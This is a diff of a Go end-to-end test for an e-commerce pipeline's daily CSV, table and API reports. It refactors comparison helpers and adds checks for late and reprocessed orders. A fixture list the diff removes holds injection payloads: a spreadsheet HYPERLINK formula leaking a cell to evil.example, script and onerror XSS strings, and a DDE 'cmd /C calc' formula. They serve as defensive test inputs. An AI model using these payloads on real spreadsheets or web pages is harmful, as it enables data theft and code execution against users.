@@ -3,14 +3,10 @@ package e2e
 import (
 	"bytes"
 	"context"
-	"encoding/csv"
-	"encoding/json"
 	"errors"
 	"fmt"
-	"io"
-	"math/big"
 	"math/rand/v2"
-	"net/http"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -19,43 +15,11 @@ import (
 	"cloud.google.com/go/civil"
 	"cloud.google.com/go/storage"
 	"github.com/google/go-cmp/cmp"
-	"google.golang.org/api/iterator"
 
 	"github.com/zackkki/ecomm_datapipeline/pkg/config"
 	"github.com/zackkki/ecomm_datapipeline/services/pipelinectl/model"
-	"github.com/zackkki/ecomm_datapipeline/services/pipelinectl/verify"
 	"github.com/zackkki/ecomm_datapipeline/services/reporter/daily"
 )
-
-// hostileTexts are names that a person or a program might put into any field.
-var hostileTexts = []string{
-	`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`,
-	`"quoted", comma; 'single'`, "two\nlines", "שלום עולם", "🎉 party 👩‍🚀", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
-	"'apostrophe", "</style><script>alert(2)</script>", "&lt;b&gt; & co", "\u202eright to left", "＝1+1", "]]>--><!--", "{{.Date}} %s ${x}",
-}
-
-// reportColumns are the sheets' columns; text ones may carry an apostrophe in CSV.
-var reportColumns = map[string][]string{
-	"churn-risk": {
-		"position", "customer_id", "customer_name", "customer_tier", "first_order_date", "last_order_date", "days_since_last_order", "orders",
-		"order_days", "lifetime_value", "completed_value", "usual_interval_days", "expected_interval_days", "risk_score", "risk_level",
-	},
-	"inventory-alerts": {
-		"position", "product_id", "product_name", "category", "alert", "severity", "is_active", "stock_level", "units_7d", "units_28d",
-		"units_per_day_7d", "units_per_day_28d", "demand_per_day", "days_of_cover", "revenue_28d",
-	},
-	"revenue-trends": {
-		"position", "granularity", "level", "region", "category", "period_start", "period_end", "orders", "units", "revenue",
-		"completed_revenue", "previous_revenue", "change_ratio", "moving_average_7", "moving_average_28", "expected_revenue", "deviation", "anomaly",
-	},
-	"data-quality": {"position", "section", "check_name", "table_name", "subject", "value", "unit", "expectation", "status"},
-}
-
-var textColumns = map[string]bool{
-	"customer_id": true, "customer_name": true, "customer_tier": true, "risk_level": true, "product_id": true, "product_name": true,
-	"category": true, "alert": true, "severity": true, "granularity": true, "level": true, "region": true, "anomaly": true,
-	"section": true, "check_name": true, "table_name": true, "subject": true, "unit": true, "expectation": true, "status": true,
-}
 
 // TestDailyReports lands five months of orders with hostile names, makes the reports
 // of two dates, and holds tables, files and API against the model.
@@ -63,7 +27,6 @@ func TestDailyReports(t *testing.T) {
 	t.Parallel()
 	p := start(t, "all")
 	history, today := landHistory(t, p)
-	files := p.inputs(t, history)
 	// The clock says tomorrow, so that today is over and its files and findings count.
 	now := today.AddDate(0, 0, 1).Add(time.Hour)
 	var cfg daily.Config
@@ -77,23 +40,15 @@ func TestDailyReports(t *testing.T) {
 	}
 	t.Cleanup(func() { _ = runner.Close() })
 
-	warehouse, err := model.Compute(files, p.policy)
-	if err != nil {
-		t.Fatal(err)
-	}
 	dates := []time.Time{today.AddDate(0, 0, -1), today}
 	for _, date := range dates {
-		if err := runner.Make(t.Context(), civil.DateOf(date), nil); err != nil {
-			t.Fatal(err)
-		}
-		want := wantReports(warehouse, files, date)
+		want := p.makeAndCompare(t, runner, history, date)
 		for id, sheet := range want {
 			if len(sheet) == 0 {
 				t.Errorf("%s of %s is empty: the test tests nothing", id, civil.DateOf(date))
 			}
-			p.compareReport(t, id, civil.DateOf(date), sheet)
 		}
-		p.comparePage(t, civil.DateOf(date), want)
+		wantEdgeOfCover(t, want["inventory-alerts"])
 	}
 	if complete, err := runner.Complete(t.Context(), civil.DateOf(today)); err != nil || !complete {
 		t.Errorf("today's reports complete: %v, %v", complete, err)
@@ -129,20 +84,73 @@ func TestDailyReports(t *testing.T) {
 	}
 	history.add(t, p, "orders/late.json", late.Bytes())
 	p.awaitFiles(t, len(history.sources))
-	files = p.inputs(t, history)
-	if warehouse, err = model.Compute(files, p.policy); err != nil {
-		t.Fatal(err)
-	}
-	if err := runner.Make(t.Context(), civil.DateOf(today), nil); err != nil {
-		t.Fatal(err)
-	}
-	want := wantReports(warehouse, files, today)
-	for id, sheet := range want {
-		p.compareReport(t, id, civil.DateOf(today), sheet)
-	}
-	p.comparePage(t, civil.DateOf(today), want)
-	if table := "report_churn_risk"; before[table] == p.reportState(t)[table] {
+	p.makeAndCompare(t, runner, history, today)
+	withLate := p.reportState(t)
+	if table := "report_churn_risk"; before[table] == withLate[table] {
 		t.Error("late orders change nothing: the test tests nothing")
+	}
+
+	// Files that are read again, to the same facts: only the audit, which tells of files, may differ.
+	p.bringBack(t, 2, "reprocess", p.fileID(t, "orders/orders_0.json"), p.fileID(t, "orders/orders_1.json"))
+	p.makeAndCompare(t, runner, history, today)
+	after := p.reportState(t)
+	for _, table := range []string{"report_churn_risk", "report_inventory_alerts", "report_revenue_trends"} {
+		if withLate[table] != after[table] {
+			t.Errorf("files read again change %s:\n%s", table, cmp.Diff(withLate[table], after[table]))
+		}
+	}
+
+	p.auditUnknownTier(t, runner, civil.DateOf(today))
+}
+
+// makeAndCompare makes a date's reports of what has landed by now, and holds them
+// against the model's, which it returns.
+func (p *pipeline) makeAndCompare(t *testing.T, runner *daily.Runner, history *landed, date time.Time) map[string]model.Sheet {
+	t.Helper()
+	files := p.inputs(t, history)
+	warehouse, err := model.Compute(files, p.policy)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := runner.Make(t.Context(), civil.DateOf(date), nil); err != nil {
+		t.Fatal(err)
+	}
+	want := wantReports(warehouse, files, date)
+	for id, sheet := range want {
+		p.compareReport(t, id, civil.DateOf(date), sheet)
+	}
+	p.comparePage(t, civil.DateOf(date), want)
+	return want
+}
+
+// auditUnknownTier holds that a tier which a catalog called unknown is no gap once a
+// later one names it, and that it is one if the line was to be told.
+func (p *pipeline) auditUnknownTier(t *testing.T, runner *daily.Runner, date civil.Date) {
+	t.Helper()
+	const audit = "SELECT value, status FROM report_data_quality WHERE report_date = '%s' AND check_name = 'lines_not_repaired' AND subject = 'customer_tier'"
+	p.check(t, "tier of the lines and the customer", "SELECT DISTINCT f.customer_tier, c.customer_tier FROM fact_orders AS f JOIN dim_customers AS c ON c.customer_id = f.customer_id WHERE f.customer_id = 'C-NEW'",
+		"unknown|gold\n")
+	p.check(t, "lines that a catalog called unknown", fmt.Sprintf(audit, date), "0|ok\n")
+	p.mustQuery(t, "INSERT INTO unresolved_refs (ref_kind, ref_id, order_date) SELECT DISTINCT 'customer', customer_id, order_date FROM fact_orders WHERE customer_id = 'C-NEW'")
+	if err := runner.Make(t.Context(), date, nil); err != nil {
+		t.Fatal(err)
+	}
+	p.check(t, "lines that wait for a tier", fmt.Sprintf(audit, date), "2|error\n")
+}
+
+// wantEdgeOfCover holds that limits are compared with what lasts, not with what is
+// shown: 977 units at 70 a day last 13.957 days, shown as 14.
+func wantEdgeOfCover(t *testing.T, alerts model.Sheet) {
+	t.Helper()
+	got := make(map[string]string)
+	for _, row := range alerts {
+		get := func(name string) string { return row[slices.Index(reportColumns["inventory-alerts"], name)] }
+		if id := get("product_id"); id == "P-EDGE" || id == "P-ENOUGH" {
+			got[id] = get("demand_per_day") + " a day, " + get("days_of_cover") + " days: " + get("severity")
+		}
+	}
+	if diff := cmp.Diff(map[string]string{"P-EDGE": "70 a day, 14 days: warning"}, got); diff != "" {
+		t.Errorf("alerts at the edge (-want +got):\n%s", diff)
 	}
 }
 
@@ -243,278 +251,4 @@ func TestReportOfARunningDay(t *testing.T) {
 	if len(list.Rows) != 1 || list.Rows[0].Date != today.String() || len(list.Rows[0].Reports) != 4 {
 		t.Errorf("list of reports: %+v", list)
 	}
-}
-
-// landHistory lands catalogs and orders of 160 days up to tomorrow, and waits for them.
-func landHistory(t *testing.T, p *pipeline) (*landed, time.Time) {
-	t.Helper()
-	rnd := rand.New(rand.NewPCG(5, 8))
-	today := time.Now().UTC().Truncate(24 * time.Hour)
-	var landed landed
-	landed.add(t, p, "products/products.csv", catalog(t, "product_id,product_name,category,price,stock_level", 40, func(i int) []string {
-		return []string{fmt.Sprintf("P-%02d", i), hostileTexts[i%len(hostileTexts)], []string{"Books", hostileTexts[i%3], "Toys", hostileTexts[5]}[i%4], "9.99", fmt.Sprint(i*i - 9)}
-	}))
-	landed.add(t, p, "customers/customers.csv", catalog(t, "customer_id,name,email,registration_date,customer_tier", 60, func(i int) []string {
-		return []string{fmt.Sprintf("C-%02d", i), hostileTexts[i%len(hostileTexts)], "a@example.com", "2025-01-01", []string{"gold", "<b>silver</b>", "=bronze"}[i%3]}
-	}))
-	p.awaitFiles(t, 2)
-	for file := range 3 {
-		var content bytes.Buffer
-		for i := range 700 {
-			content.Write(historicOrder(t, rnd, today, file*700+i))
-		}
-		if file == 1 {
-			content.WriteString("{\"order_id\": \n")       // malformed
-			content.Write(historicOrder(t, rnd, today, 3)) // the same order_id with other content
-		}
-		landed.add(t, p, fmt.Sprintf("orders/orders_%d.json", file), content.Bytes())
-	}
-	landed.add(t, p, "orders/empty.json", nil) // goes to quarantine
-	p.awaitFiles(t, len(landed.sources))
-	return &landed, today
-}
-
-// inputs are the files that landed, as the model takes them.
-func (p *pipeline) inputs(t *testing.T, landed *landed) []model.File {
-	t.Helper()
-	clients, err := verify.Open(t.Context(), p.endpoints)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer clients.Close()
-	files, err := clients.Files(t.Context(), landed.sources)
-	if err != nil {
-		t.Fatal(err)
-	}
-	return files
-}
-
-func catalog(t *testing.T, header string, n int, row func(int) []string) []byte {
-	t.Helper()
-	var b bytes.Buffer
-	w := csv.NewWriter(&b)
-	rows := [][]string{strings.Split(header, ",")}
-	for i := range n {
-		rows = append(rows, row(i))
-	}
-	if err := w.WriteAll(rows); err != nil {
-		t.Fatal(err)
-	}
-	return b.Bytes()
-}
-
-// historicOrder is an order of one of the 160 days up to tomorrow. Customers order
-// in bursts: half of them stay away since long ago.
-func historicOrder(t *testing.T, rnd *rand.Rand, today time.Time, i int) []byte {
-	t.Helper()
-	customer := rnd.IntN(70) // the last ten are in no catalog
-	daysAgo := rnd.IntN(160) - 1
-	if customer%2 == 0 {
-		daysAgo = 29 + rnd.IntN(131)
-	}
-	if customer >= 66 {
-		daysAgo = 31 + customer // a single order day
-	}
-	type line struct {
-		Product  string      `json:"product_id"`
-		Quantity int         `json:"quantity"`
-		Price    json.Number `json:"unit_price"`
-	}
-	cents := func(n int) json.Number { return json.Number(fmt.Sprintf("%d.%02d", n/100, n%100)) }
-	var lines []line
-	total := 0
-	for range 1 + rnd.IntN(3) {
-		l := line{fmt.Sprintf("P-%02d", rnd.IntN(44)), 1 + rnd.IntN(4), ""} // four are in no catalog
-		price := 100 + rnd.IntN(9900)
-		if rnd.IntN(200) == 0 {
-			price *= 400 // an outlier
-		}
-		l.Price = cents(price)
-		total += l.Quantity * price
-		lines = append(lines, l)
-	}
-	country, state := "US", []string{"NY", "CA", "TX", "IL"}[rnd.IntN(4)]
-	if rnd.IntN(4) == 0 {
-		country, state = hostileTexts[rnd.IntN(8)], ""
-	}
-	text, err := json.Marshal(map[string]any{
-		"order_id": fmt.Sprintf("O-%d", i), "customer_id": fmt.Sprintf("C-%02d", customer), "items": lines, "total_amount": cents(total),
-		"order_timestamp": today.AddDate(0, 0, -daysAgo).Add(time.Duration(rnd.IntN(86400)) * time.Second).Format(time.RFC3339),
-		"payment_status":  []string{"completed", "completed", "pending", "failed", "on hold"}[rnd.IntN(5)],
-		"shipping_address": map[string]string{
-			"street": "1 Main St", "city": hostileTexts[rnd.IntN(len(hostileTexts))] + "\r\n", "state": state, "zipcode": "", "country": country,
-		},
-	})
-	if err != nil {
-		t.Fatal(err)
-	}
-	return append(text, '\n')
-}
-
-// wantReports computes the reports of a date that is over.
-func wantReports(w *model.Warehouse, files []model.File, date time.Time) map[string]model.Sheet {
-	o := model.ReportOptions{
-		Date: date, Through: date.AddDate(0, 0, 1), ChurnAfterDays: 30, CoverCriticalDays: 7, CoverWarningDays: 14, MaxSeries: 6,
-		CompletenessMin: big.NewRat(9, 10), OrdersMaxAgeHours: 2, CatalogsMaxAgeHours: 26,
-	}
-	return map[string]model.Sheet{
-		"churn-risk": w.ChurnRisk(o), "inventory-alerts": w.InventoryAlerts(o), "revenue-trends": w.RevenueTrends(o), "data-quality": w.DataQuality(o, files),
-	}
-}
-
-// compareReport holds a report's table, its CSV file and the API against the model.
-func (p *pipeline) compareReport(t *testing.T, id string, date civil.Date, want model.Sheet) {
-	t.Helper()
-	columns := reportColumns[id]
-	var table model.Sheet
-	query := fmt.Sprintf("SELECT %s FROM report_%s WHERE report_date = '%s' ORDER BY position", strings.Join(columns, ", "), strings.ReplaceAll(id, "-", "_"), date)
-	for _, row := range p.mustQuery(t, query) {
-		cells := make([]string, len(row))
-		for i, v := range row {
-			if v != nil {
-				cells[i] = valueText(v)
-			}
-		}
-		table = append(table, cells)
-	}
-	if diff := firstDiff(want, table); diff != "" {
-		t.Errorf("table of %s of %s (-want +got):\n%s", id, date, diff)
-	}
-	if diff := firstDiff(want, p.readCSV(t, id, date, columns)); diff != "" {
-		t.Errorf("CSV of %s of %s (-want +got):\n%s", id, date, diff)
-	}
-	if diff := firstDiff(want, p.askReport(t, id, date, columns)); diff != "" {
-		t.Errorf("API's %s of %s (-want +got):\n%s", id, date, diff)
-	}
-}
-
-// firstDiff shows the first rows that differ: a report has thousands.
-func firstDiff(want, got model.Sheet) string {
-	if len(want) != len(got) {
-		n := min(len(want), len(got))
-		return fmt.Sprintf("%d rows instead of %d; %s", len(got), len(want), cmp.Diff(want[:min(n, 5)], got[:min(n, 5)]))
-	}
-	for i := range want {
-		if diff := cmp.Diff(want[i], got[i]); diff != "" {
-			return fmt.Sprintf("row %d:\n%s", i, diff)
-		}
-	}
-	return ""
-}
-
-// readCSV reads a report's file as a program would, from the reporter.
-func (p *pipeline) readCSV(t *testing.T, id string, date civil.Date, columns []string) model.Sheet {
-	t.Helper()
-	content := p.object(t, daily.ObjectName(date, id+".csv"))
-	response, err := http.Get(fmt.Sprintf("%s/reports/%s/%s.csv", p.dashboard, date, id))
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer response.Body.Close()
-	served, err := io.ReadAll(response.Body)
-	if err != nil || string(served) != content || !strings.HasPrefix(response.Header.Get("Content-Disposition"), "attachment") {
-		t.Errorf("%s of %s is served otherwise: %v %v", id, date, response.Header, err)
-	}
-	if strings.Count(content, "\r\n") < strings.Count(content, "\n")/2 || !strings.HasSuffix(content, "\r\n") {
-		t.Errorf("%s of %s: records do not end in CR LF", id, date)
-	}
-	rows, err := csv.NewReader(strings.NewReader(content)).ReadAll()
-	if err != nil {
-		t.Fatal(err)
-	}
-	if diff := cmp.Diff(append([]string{"report_date"}, columns...), rows[0]); diff != "" {
-		t.Errorf("header of %s (-want +got):\n%s", id, diff)
-	}
-	var sheet model.Sheet
-	for _, row := range rows[1:] {
-		if row[0] != date.String() {
-			t.Errorf("%s: date %s", id, row[0])
-		}
-		cells := row[1:]
-		for i, cell := range cells {
-			if !textColumns[columns[i]] || cell == "" {
-				continue
-			}
-			if strings.ContainsAny(cell[:1], "=+-@\t\r") || strings.HasPrefix(cell, "＝") {
-				t.Errorf("%s: a spreadsheet takes %q for a formula", id, cell)
-			}
-			cells[i] = strings.TrimPrefix(cell, "'")
-		}
-		sheet = append(sheet, cells)
-	}
-	return sheet
-}
-
-// askReport reads a report page by page from the API.
-func (p *pipeline) askReport(t *testing.T, id string, date civil.Date, columns []string) model.Sheet {
-	t.Helper()
-	var sheet model.Sheet
-	for token := ""; ; {
-		path := fmt.Sprintf("reports/%s?date=%s&limit=999", id, date)
-		if token != "" {
-			path += "&page_token=" + token
-		}
-		var answer struct {
-			RowCount      int              `json:"row_count"`
-			Complete      bool             `json:"complete"`
-			NextPageToken string           `json:"next_page_token"`
-			Rows          []map[string]any `json:"rows"`
-		}
-		p.askInto(t, path, &answer)
-		for _, row := range answer.Rows {
-			cells := make([]string, len(columns))
-			for i, c := range columns {
-				if row[c] != nil {
-					cells[i] = fmt.Sprint(row[c])
-				}
-				if f, isNumber := row[c].(float64); isNumber {
-					cells[i] = fmt.Sprintf("%.0f", f)
-				}
-				if amount, isText := row[c].(string); isText && !textColumns[c] && strings.Contains(amount, ".") {
-					cells[i] = strings.TrimSuffix(strings.TrimRight(amount, "0"), ".")
-				}
-			}
-			sheet = append(sheet, cells)
-		}
-		if token = answer.NextPageToken; token == "" {
-			if answer.RowCount != len(sheet) || !answer.Complete {
-				t.Errorf("%s of %s: %d rows announced, %d read, complete %v", id, date, answer.RowCount, len(sheet), answer.Complete)
-			}
-			return sheet
-		}
-	}
-}
-
-// reportState is all that daily runs leave behind.
-func (p *pipeline) reportState(t *testing.T) map[string]string {
-	t.Helper()
-	state := make(map[string]string)
-	for _, table := range []string{"report_churn_risk", "report_inventory_alerts", "report_revenue_trends", "report_data_quality", "report_runs"} {
-		state[table] = text(p.mustQuery(t, "SELECT * FROM "+table+" ORDER BY 1, 2"))
-	}
-	objects := p.bucket().Objects(t.Context(), &storage.Query{Prefix: "reports/"})
-	for {
-		attrs, err := objects.Next()
-		if errors.Is(err, iterator.Done) {
-			return state
-		}
-		if err != nil {
-			t.Fatal(err)
-		}
-		state[attrs.Name] = fmt.Sprint(attrs.Generation, " ", p.object(t, attrs.Name))
-	}
-}
-
-func (p *pipeline) object(t *testing.T, name string) string {
-	t.Helper()
-	r, err := p.bucket().Object(name).NewReader(t.Context())
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer r.Close()
-	content, err := io.ReadAll(r)
-	if err != nil {
-		t.Fatal(err)
-	}
-	return string(content)
 }
